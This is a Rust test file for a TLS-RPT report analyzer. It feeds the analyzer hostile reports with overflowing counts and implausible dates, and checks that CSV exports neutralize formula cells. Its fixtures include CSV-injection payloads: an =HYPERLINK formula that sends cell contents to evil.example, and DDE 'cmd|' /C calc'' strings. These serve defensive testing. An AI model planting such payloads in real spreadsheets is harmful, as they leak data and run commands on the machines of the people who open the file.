//! Counts and dates a buggy or hostile sender can write, through the whole
//! pipeline: each such report is one problem that names its field and value, and
//! the totals of the others stay exact (README, "Counts and dates a report may
//! have"); text fields that a spreadsheet would run as formulas are neutralized in
//! every CSV table.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::AtomicBool;

use chrono::{DateTime, Duration, NaiveDate, Utc};
use proptest::prelude::*;
use serde_json::{Value, json};
use tlsrpt_analyzer::analysis::{Filter, Period, Summary, select, series};
use tlsrpt_analyzer::ingest::{self, LoadOptions};
use tlsrpt_analyzer::library::Loaded;
use tlsrpt_analyzer::report::MAX_SESSION_COUNT;
use tlsrpt_corpus::{CorpusOptions, Layout, generate};

#[path = "common/ingest.rs"]
#[allow(dead_code)]
mod common;
use common::{tempdir, write};

fn run(args: &[&str]) -> Output {
    let output = Command::new(env!("CARGO_BIN_EXE_tlsrpt-analyzer"))
        .args(args)
        .output()
        .expect("run tlsrpt-analyzer");
    assert!(
        output.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn report_json(id: &str, date_range: Value, policies: Value) -> String {
    json!({
        "organization-name": "Hostile Sender",
        "date-range": date_range,
        "contact-info": "abuse@hostile.example",
        "report-id": id,
        "policies": policies,
    })
    .to_string()
}

fn day(start: &str) -> Value {
    json!({"start-datetime": start, "end-datetime": "2026-06-02T00:00:00Z"})
}

fn sessions(successful: Value, failed: Value) -> Value {
    json!([{"policy": {"policy-type": "sts", "policy-domain": "example.com"},
            "summary": {"total-successful-session-count": successful,
                        "total-failure-session-count": failed}}])
}

/// Reports no sender can have, each with the words its problem must contain.
fn hostile_reports() -> Vec<(&'static str, String, &'static str)> {
    let max = u64::MAX;
    let bound = MAX_SESSION_COUNT;
    let june = day("2026-06-01T00:00:00Z");
    let two_policies = json!([
        {"policy": {"policy-type": "sts"}, "summary": {"total-successful-session-count": bound}},
        {"policy": {"policy-type": "tlsa"}, "summary": {"total-successful-session-count": bound}}
    ]);
    let huge_detail = json!([{"policy": {"policy-type": "sts"},
        "summary": {"total-successful-session-count": 1},
        "failure-details": [{"result-type": "certificate-expired", "failed-session-count": max}]}]);
    let ok = sessions(json!(10), json!(1));
    vec![
        (
            "u64-max",
            report_json("h1", june.clone(), sessions(json!(max), json!(0))),
            "policy 1 \"total-successful-session-count\": 18446744073709551615 is more than any sender counts",
        ),
        (
            "adds-past-the-bound",
            report_json("h2", june.clone(), two_policies),
            "the report's total-successful-session-count over all policies: 18014398509481984",
        ),
        (
            "past-u64",
            report_json("h3", june.clone(), sessions(json!(1), json!(1e30))),
            "policy 1 \"total-failure-session-count\": 1000000000000000000000000000000 is too large",
        ),
        (
            "negative",
            report_json("h4", june.clone(), sessions(json!(-1), json!(0))),
            "policy 1 \"total-successful-session-count\": -1 is negative",
        ),
        (
            "huge-detail",
            report_json("h5", june, huge_detail),
            "policy 1, failure detail 1 \"failed-session-count\": 18446744073709551615",
        ),
        (
            "parser-first-second",
            report_json(
                "h6",
                json!({"start-datetime": "-8334601228800"}),
                ok.clone(),
            ),
            "start-datetime -262143-01-01T00:00:00Z is not plausible: TLS reports began in 2016",
        ),
        (
            "parser-last-second",
            report_json(
                "h7",
                json!({"start-datetime": DateTime::<Utc>::MAX_UTC.timestamp().to_string()}),
                ok.clone(),
            ),
            "start-datetime +262142-12-31T23:59:59Z is not plausible",
        ),
        (
            "milliseconds",
            report_json(
                "h8",
                json!({"start-datetime": "1780272000000", "end-datetime": "1780358400000"}),
                ok.clone(),
            ),
            "Unix milliseconds given as seconds? As milliseconds it is 2026-06-01T00:00:00Z",
        ),
        (
            "inverted",
            report_json(
                "h9",
                json!({"start-datetime": "2026-06-02T00:00:00Z",
                       "end-datetime": "2026-06-01T00:00:00Z"}),
                ok.clone(),
            ),
            "end-datetime 2026-06-01T00:00:00Z is before start-datetime 2026-06-02T00:00:00Z",
        ),
        (
            "year-long",
            report_json(
                "h10",
                json!({"start-datetime": "2025-06-01T00:00:00Z",
                       "end-datetime": "2026-06-01T00:00:00Z"}),
                ok.clone(),
            ),
            "covers 365 days; a report covers a day (at most 14 accepted)",
        ),
        (
            "epoch",
            report_json(
                "h11",
                json!({"start-datetime": 0, "end-datetime": 86400}),
                ok,
            ),
            "start-datetime 1970-01-01T00:00:00Z is not plausible",
        ),
    ]
}

/// One e-mail of an mbox carrying `json` as a TLS report attachment.
fn mbox_message(json: &str) -> String {
    format!(
        "From tlsrpt@hostile.example Sat Nov 28 10:00:01 2026\n\
         From: tlsrpt@hostile.example\nTo: tlsrpt@example.com\n\
         Subject: Report Domain: example.com\nMIME-Version: 1.0\n\
         Content-Type: multipart/report; boundary=\"b\"\n\n\
         --b\nContent-Type: text/plain\n\nA report.\n\
         --b\nContent-Type: application/tlsrpt+json\n\
         Content-Disposition: attachment; filename=\"report.json\"\n\n{json}\n--b--\n\n"
    )
}

#[test]
fn hostile_reports_among_a_corpus_are_one_problem_each_and_the_totals_stay_exact() {
    let dir = tempdir();
    let corpus = dir.path().join("corpus");
    let options = CorpusOptions {
        reports: 300,
        seed: 11,
        layout: Layout::Mixed,
        ..CorpusOptions::default()
    };
    let expected = generate(&corpus, &options).expect("corpus");
    let hostile = hostile_reports();
    let mut mbox = String::new();
    for (name, json, _) in &hostile {
        write(&corpus, &format!("hostile/{name}.json"), json);
        // The same reports once more, in a mailbox (other ids: not copies).
        mbox.push_str(&mbox_message(&json.replace("\"h", "\"mbox-h")));
    }
    let mbox_path = write(&corpus, "hostile.mbox", mbox);
    let corpus_arg = corpus.to_str().expect("path");

    let summary: Summary =
        serde_json::from_slice(&run(&["summary", "--format", "json", corpus_arg]).stdout)
            .expect("summary JSON");
    assert_eq!(summary.reports, expected.reports);
    assert_eq!(summary.successful_sessions, expected.successful_sessions);
    assert_eq!(summary.failed_sessions, expected.failed_sessions);
    assert_eq!(summary.by_day, expected.by_day);
    assert_eq!(summary.by_organization, expected.by_organization);
    assert_eq!(summary.by_result_type, expected.by_result_type);
    assert_eq!(
        summary.problems.len(),
        expected.problems.len() + 2 * hostile.len()
    );
    for (index, (name, _, why)) in hostile.iter().enumerate() {
        let file = corpus
            .join(format!("hostile/{name}.json"))
            .display()
            .to_string();
        let message = format!(
            "{} › message {} › attachment report.json",
            mbox_path.display(),
            index + 1
        );
        for source in [file, message] {
            let found: Vec<&str> = summary
                .problems
                .iter()
                .filter(|p| p.source == source)
                .map(|p| p.error.as_str())
                .collect();
            assert_eq!(found.len(), 1, "{source}: {found:?}");
            assert!(found[0].contains(why), "{name}: {}", found[0]);
        }
    }

    let out = dir.path().join("export");
    let out_arg = out.to_str().expect("path");
    run(&["export", "--format", "both", "--out", out_arg, corpus_arg]);
    let rows = |name: &str| {
        csv::Reader::from_path(out.join(name))
            .expect(name)
            .records()
            .map(|r| r.expect("row"))
            .collect::<Vec<_>>()
    };
    assert_eq!(rows("reports.csv").len() as u64, expected.reports);
    // One row per day from the first to the last day of the corpus, not one per
    // day between the parser's first and last second.
    let date = |d: &str| NaiveDate::parse_from_str(d, "%Y-%m-%d").expect("day");
    let first = date(&expected.by_day.first().expect("days").day);
    let last = date(&expected.by_day.last().expect("days").day);
    let days = (last - first).num_days() as usize + 1;
    assert!(days <= options.days, "{days}");
    let daily = rows("daily.csv");
    assert_eq!(daily.len(), days);
    let successful: u128 = daily
        .iter()
        .map(|r| r[2].parse::<u128>().expect("count"))
        .sum();
    assert_eq!(successful, expected.successful_sessions);
    let daily_json: Vec<Value> =
        serde_json::from_slice(&std::fs::read(out.join("daily.json")).expect("daily.json"))
            .expect("JSON");
    assert_eq!(daily_json.len(), days);
}

// ---------------------------------------------------------------------------------
// Formula cells
// ---------------------------------------------------------------------------------

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A report whose every text field begins with a formula character.
fn formula_report() -> String {
    json!({
        "organization-name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "date-range": {"start-datetime": "2026-06-01T00:00:00Z",
                       "end-datetime": "2026-06-01T23:59:59Z"},
        "contact-info": "@SUM(1+1)*cmd|' /C calc'!A0",
        "report-id": "-2+3+cmd|' /C calc'!A0",
        "policies": [{
            "policy": {"policy-type": "+sts", "policy-string": ["\t=version: STSv1", "mode: enforce"],
                       "policy-domain": "=evil.example", "mx-host": ["@mx.evil.example"]},
            "summary": {"total-successful-session-count": 5, "total-failure-session-count": 2},
            "failure-details": [{
                "result-type": "=certificate-expired", "sending-mta-ip": "=1+1",
                "receiving-ip": "-1+1", "receiving-mx-hostname": "+mx.evil.example",
                "receiving-mx-helo": "\tmx", "failed-session-count": 2,
                "additional-information": "=HYPERLINK(\"http://evil.example\")",
                "failure-reason-code": "\r=cmd"}]
        }]
    })
    .to_string()
}

fn formula_cells(csv_text: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text);
    reader
        .records()
        .flat_map(|r| r.expect("row").iter().map(String::from).collect::<Vec<_>>())
        .filter(|cell| cell.starts_with(FORMULA_STARTS))
        .collect()
}

#[test]
fn no_csv_table_has_a_cell_a_spreadsheet_would_run_and_raw_csv_keeps_them() {
    let dir = tempdir();
    let input = write(dir.path(), "in/formula.json", formula_report());
    let input_arg = input.to_str().expect("path");
    let out = dir.path().join("out");
    let out_arg = out.to_str().expect("path");
    run(&["export", "--format", "both", "--out", out_arg, input_arg]);
    let mut tables = 0;
    for entry in std::fs::read_dir(&out).expect("export folder") {
        let path = entry.expect("entry").path();
        if path.extension().is_some_and(|e| e == "csv") {
            tables += 1;
            let bytes = std::fs::read(&path).expect("csv");
            assert_eq!(
                formula_cells(&bytes),
                Vec::<String>::new(),
                "{}",
                path.display()
            );
        }
    }
    assert!(tables >= 20, "{tables} CSV tables");
    let mut by_report = vec!["summary", "--format", "csv", input_arg];
    assert_eq!(formula_cells(&run(&by_report).stdout), Vec::<String>::new());
    by_report.extend(["--by", "report"]);
    for by in [
        "report",
        "organization",
        "policy-version,sending-ip",
        "mx-host,failure-reason-code",
    ] {
        by_report[5] = by;
        let cells = formula_cells(&run(&by_report).stdout);
        assert_eq!(cells, Vec::<String>::new(), "--by {by}");
    }

    // The neutralized cell is the sent text after a quote; JSON keeps the text.
    let reports = std::fs::read_to_string(out.join("reports.csv")).expect("reports.csv");
    assert!(reports.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    let json: Vec<Value> =
        serde_json::from_slice(&std::fs::read(out.join("reports.json")).expect("reports.json"))
            .expect("JSON");
    assert_eq!(
        json[0]["organization"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );

    // --raw-csv writes them as sent, for scripts.
    let raw = dir.path().join("raw");
    let raw_arg = raw.to_str().expect("path");
    run(&["export", "--raw-csv", "--out", raw_arg, input_arg]);
    let details = std::fs::read(raw.join("failure-details.csv")).expect("csv");
    let cells = formula_cells(&details);
    for sent in ["@SUM(1+1)*cmd|' /C calc'!A0", "=cmd", "=1+1", "-1+1"] {
        assert!(cells.iter().any(|c| c == sent), "{sent:?} in {cells:?}");
    }
    // Text is trimmed when read, but for the start of a policy string: a tab can
    // begin a cell, and is neutralized like the rest.
    let versions = |extra: &[&str]| {
        let mut args = vec!["summary", "--format", "csv", "--by", "policy-version"];
        args.extend(extra);
        args.push(input_arg);
        formula_cells(&run(&args).stdout)
    };
    assert_eq!(versions(&[]), Vec::<String>::new());
    assert_eq!(
        versions(&["--raw-csv"]),
        ["\t=version: STSv1\nmode: enforce"]
    );
}

// ---------------------------------------------------------------------------------
// Properties: any count up to u64::MAX, any date the parser accepts
// ---------------------------------------------------------------------------------

/// The time of loading the properties judge dates against.
fn now() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-12-02T12:00:00Z")
        .expect("time")
        .with_timezone(&Utc)
}

#[derive(Debug, Clone)]
struct GenPolicy {
    successful: Option<u64>,
    failed: Option<u64>,
    details: Vec<Option<u64>>,
}

#[derive(Debug, Clone)]
struct GenReport {
    start: i64,
    /// Seconds after the start; `None`: no end-datetime (a day after the start).
    length: Option<i64>,
    /// Written as RFC 3339 when the year allows, else as Unix seconds.
    rfc3339: bool,
    policies: Vec<GenPolicy>,
}

fn count() -> impl Strategy<Value = Option<u64>> {
    let bound = MAX_SESSION_COUNT;
    prop_oneof![
        3 => (0u64..100_000).prop_map(Some),
        2 => (bound - 2..=bound + 2).prop_map(Some),
        1 => Just(Some(u64::MAX)),
        1 => any::<u64>().prop_map(Some),
        1 => (bound / 4..=bound / 2).prop_map(Some),
        1 => Just(None),
    ]
}

fn start() -> impl Strategy<Value = i64> {
    let first = DateTime::<Utc>::MIN_UTC.timestamp();
    let last = DateTime::<Utc>::MAX_UTC.timestamp();
    let earliest = 1_451_606_400; // 2016-01-01
    let latest = now().timestamp() + 2 * 86_400;
    prop_oneof![
        4 => earliest..latest,
        2 => first..=last,
        1 => (earliest..latest).prop_map(|s| s * 1000),
        1 => prop::sample::select(vec![earliest - 1, earliest, latest, latest + 1, first, last, 0]),
    ]
}

fn length() -> impl Strategy<Value = Option<i64>> {
    prop_oneof![
        4 => (0i64..=86_400).prop_map(Some),
        1 => Just(None),
        1 => (-86_400i64..0).prop_map(Some),
        1 => (14 * 86_400 - 2..=14 * 86_400 + 2i64).prop_map(Some),
        1 => any::<i32>().prop_map(|s| Some(i64::from(s) * 100)),
    ]
}

fn gen_report() -> impl Strategy<Value = GenReport> {
    let policy = (count(), count(), prop::collection::vec(count(), 0..4)).prop_map(
        |(successful, failed, details)| GenPolicy {
            successful,
            failed,
            details,
        },
    );
    (
        start(),
        length(),
        any::<bool>(),
        prop::collection::vec(policy, 0..4),
    )
        .prop_map(|(start, length, rfc3339, policies)| GenReport {
            start,
            length,
            rfc3339,
            policies,
        })
}

impl GenReport {
    fn end(&self) -> i64 {
        let last = DateTime::<Utc>::MAX_UTC.timestamp();
        let first = DateTime::<Utc>::MIN_UTC.timestamp();
        match self.length {
            // A missing end is a day after the start, or the start at the end of time.
            None if self.start + 86_400 > last => self.start,
            None => self.start + 86_400,
            Some(length) => (self.start + length).clamp(first, last),
        }
    }

    fn time(&self, secs: i64) -> Value {
        let time = DateTime::from_timestamp(secs, 0).expect("in range");
        if self.rfc3339 && (0..=9999).contains(&chrono::Datelike::year(&time)) {
            json!(time.to_rfc3339())
        } else {
            json!(secs.to_string())
        }
    }

    fn json(&self, id: usize) -> String {
        let mut range = json!({"start-datetime": self.time(self.start)});
        if self.length.is_some() {
            range["end-datetime"] = self.time(self.end());
        }
        let policies: Vec<Value> = self
            .policies
            .iter()
            .map(|p| {
                let mut summary = json!({});
                if let Some(n) = p.successful {
                    summary["total-successful-session-count"] = json!(n);
                }
                if let Some(n) = p.failed {
                    summary["total-failure-session-count"] = json!(n);
                }
                let details: Vec<Value> = p
                    .details
                    .iter()
                    .map(|c| match c {
                        Some(n) => {
                            json!({"result-type": "validation-failure", "failed-session-count": n})
                        }
                        None => json!({"result-type": "validation-failure"}),
                    })
                    .collect();
                json!({"policy": {"policy-type": "sts", "policy-domain": "example.com"},
                       "summary": summary, "failure-details": details})
            })
            .collect();
        json!({"organization-name": "Org", "report-id": format!("r{id}"),
               "date-range": range, "policies": policies})
        .to_string()
    }

    /// The report's totals and start day, or the words its problem must contain:
    /// the README's rules, computed here on their own.
    fn expected(&self) -> Result<(u128, u128, NaiveDate), &'static str> {
        let bound = u128::from(MAX_SESSION_COUNT);
        let too_many = "is more than any sender counts";
        let (mut successful, mut failed) = (0u128, 0u128);
        for policy in &self.policies {
            let details: Vec<u128> = policy
                .details
                .iter()
                .map(|c| u128::from(c.unwrap_or(0)))
                .collect();
            if details.iter().any(|&c| c > bound) || details.iter().sum::<u128>() > bound {
                return Err(too_many);
            }
            let ok = u128::from(policy.successful.unwrap_or(0));
            let bad = policy.failed.map_or(details.iter().sum(), u128::from);
            if ok > bound || bad > bound {
                return Err(too_many);
            }
            successful += ok;
            failed += bad;
        }
        if successful > bound || failed > bound {
            return Err(too_many);
        }
        let (start, end) = (self.start, self.end());
        if start < 1_451_606_400 {
            return Err("TLS reports began in 2016");
        }
        if start > (now() + Duration::days(2)).timestamp() {
            return Err("days after the time of loading");
        }
        if end < start {
            return Err("is before start-datetime");
        }
        if end - start > 14 * 86_400 {
            return Err("a report covers a day");
        }
        let day = DateTime::from_timestamp(start, 0)
            .expect("in range")
            .date_naive();
        Ok((successful, failed, day))
    }
}

fn load(dir: &Path, paths: &[PathBuf]) -> Loaded {
    let mut store = Loaded::new();
    let options = LoadOptions {
        threads: Some(2),
        now: Some(now()),
        ..LoadOptions::default()
    };
    ingest::load_into(&mut store, paths, &options, &AtomicBool::new(false), |_| {});
    assert!(dir.exists());
    store
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn any_count_and_date_is_a_named_problem_or_counted_exactly(
        reports in prop::collection::vec(gen_report(), 1..10),
    ) {
        let dir = tempdir();
        let paths: Vec<PathBuf> = reports
            .iter()
            .enumerate()
            .map(|(i, r)| write(dir.path(), &format!("r{i:02}.json"), r.json(i)))
            .collect();
        let store = load(dir.path(), &paths);
        let dataset = store.dataset();
        let summary = Summary::filtered(&store, &Filter::default());

        let problems: BTreeMap<String, String> = summary
            .problems
            .iter()
            .map(|p| (p.source.clone(), p.error.clone()))
            .collect();
        prop_assert_eq!(problems.len(), summary.problems.len());
        let (mut successful, mut failed, mut accepted) = (0u128, 0u128, 0u64);
        let mut days: BTreeMap<NaiveDate, u128> = BTreeMap::new();
        for (report, path) in reports.iter().zip(&paths) {
            let problem = problems.get(&path.display().to_string());
            match report.expected() {
                Ok((ok, bad, day)) => {
                    prop_assert!(problem.is_none(), "{report:?}: {problem:?}");
                    successful += ok;
                    failed += bad;
                    accepted += 1;
                    *days.entry(day).or_default() += ok;
                }
                Err(why) => {
                    let problem = problem.expect("a problem");
                    prop_assert!(problem.contains(why), "{report:?}: {problem}");
                }
            }
        }
        prop_assert_eq!(summary.reports, accepted);
        prop_assert_eq!(summary.successful_sessions, successful);
        prop_assert_eq!(summary.failed_sessions, failed);
        let by_day: Vec<(String, u128)> = summary
            .by_day
            .iter()
            .map(|d| (d.day.clone(), d.successful_sessions))
            .collect();
        let want: Vec<(String, u128)> = days
            .iter()
            .map(|(d, n)| (d.format("%Y-%m-%d").to_string(), *n))
            .collect();
        // Reports without policies have no row in by_day.
        prop_assert!(by_day.iter().all(|row| want.contains(row)), "{by_day:?} {want:?}");

        // The daily series spans at most the plausible years, and adds up.
        let selection = select(dataset, &Filter::default());
        let points = series(dataset, &selection, Period::Day);
        prop_assert!(points.len() <= 5000, "{} days", points.len());
        let sum: u128 = points.iter().map(|p| p.successful_sessions).sum();
        prop_assert_eq!(sum, successful);
    }
}
